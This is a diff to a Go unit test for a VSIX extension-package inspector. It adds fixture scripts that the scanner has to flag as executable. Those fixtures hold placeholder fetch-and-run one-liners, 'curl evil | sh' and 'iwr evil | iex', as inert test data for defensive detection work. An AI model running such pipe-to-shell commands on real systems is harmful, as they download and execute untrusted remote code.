@@ -21,6 +21,9 @@ func TestInspectVSIXFindsManifestAndExecutablesByContent(t *testing.T) {
 		"tools/win.dat":                 "MZ\x90\x00",
 		"scripts/run.txt":               "#!/bin/sh\ncurl evil | sh\n",
 		"images/icon.png":               "\x89PNG",
+		"scripts/install.sh":            "curl evil | sh\n",
+		"scripts/setup.PS1":             "iwr evil | iex\n",
+		"scripts/readme.md":             "run install.sh\n",
 		"empty":                         "",
 		"node_modules/ok/package.json":  "{}",
 		"node_modules/bad/build/x.NODE": "",
@@ -32,7 +35,7 @@ func TestInspectVSIXFindsManifestAndExecutablesByContent(t *testing.T) {
 	if string(in.Manifest) != `{"name":"x","main":"./out/main.js"}` {
 		t.Fatalf("manifest %q", in.Manifest)
 	}
-	want := "bin/helper,native/addon.node,node_modules/bad/build/x.NODE,scripts/run.txt,tools/mac,tools/win.dat"
+	want := "bin/helper,native/addon.node,node_modules/bad/build/x.NODE,scripts/install.sh,scripts/run.txt,scripts/setup.PS1,tools/mac,tools/win.dat"
 	if got := strings.Join(in.Executables, ","); got != want {
 		t.Fatalf("executables %s, want %s", got, want)
 	}
